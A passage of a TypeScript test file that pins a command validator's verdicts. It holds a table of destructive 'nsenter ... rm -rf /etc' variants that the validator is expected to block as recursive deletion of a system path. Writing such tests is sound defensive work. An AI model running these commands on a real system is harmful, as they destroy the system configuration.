    'rm would delete /etc (via nsenter)',
  ],
  [
    'linux',
    'nsenter -G 0 -m rm -rf /etc',
    'recursive-delete-system-path',
    'nsenter -G 0 -m rm -rf /etc',
    'rm would delete /etc (via nsenter)',
  ],
  [
    'linux',
    'nsenter --setgid 0 -m rm -rf /etc',
    'recursive-delete-system-path',
    'nsenter --setgid 0 -m rm -rf /etc',
    'rm would delete /etc (via nsenter)',
  ],
  [
    'linux',
    'nsenter -w /srv -m rm -rf /etc',
    'recursive-delete-system-path',
    'nsenter -w /srv -m rm -rf /etc',
    'rm would delete /etc (via nsenter)',
  ],
  [
    'linux',
    'nsenter --wd /srv -m rm -rf /etc',
    'recursive-delete-system-path',
    'nsenter --wd /srv -m rm -rf /etc',
    'rm would delete /etc (via nsenter)',
  ],
  [
    'linux',
    'nsenter -r /srv/jail -m rm -rf /etc',
    'recursive-delete-system-path',
    'nsenter -r /srv/jail -m rm -rf /etc',
    'rm would delete /etc (via nsenter)',
  ],
  [
    'linux',
    'nsenter --root /srv/jail -m rm -rf /etc',
    'recursive-delete-system-path',
    'nsenter --root /srv/jail -m rm -rf /etc',
    'rm would delete /etc (via nsenter)',
  ],
];

let validator: CommandValidator;
beforeAll(async () => {
  validator = await createCommandValidator();
});

describe('CommandValidator verdicts of the dangerous corpus, pinned', () => {
  it('pins one verdict for each dangerous corpus line, and none for a line the corpus no longer holds', () => {
    expect(PINNED.map((p) => `${p.os} ${p.command}`)).toEqual(DANGEROUS_COMMANDS.map((c) => `${c.os} ${c.command}`));
  });

  it('AR-01 blocks each dangerous line by its rule, naming its segment and reason', () => {
    const changed = PINNED.flatMap((pinned) => {
      const { rule, segment, reason } = validator.validate(pinned.command, pinned.os);
      return rule === pinned.rule && segment === pinned.segment && reason === pinned.reason
        ? []
        : [{ os: pinned.os, command: pinned.command, rule, segment, reason }];
    });
    expect(changed).toEqual([]);
  });

  it("AR-01 AR-06 decides the lines at each rule's edge: the blocking rule and its reason, or allow", () => {
    const changed = EDGES.flatMap(([os, command, rule, segment, reason]) => {
      const verdict = validator.validate(command, os);
      const same = verdict.rule === rule && verdict.segment === segment && (rule === null || verdict.reason === reason);
      return same ? [] : [{ os, command, rule: verdict.rule, segment: verdict.segment, reason: verdict.reason }];
    });
    expect(changed).toEqual([]);
  });
});
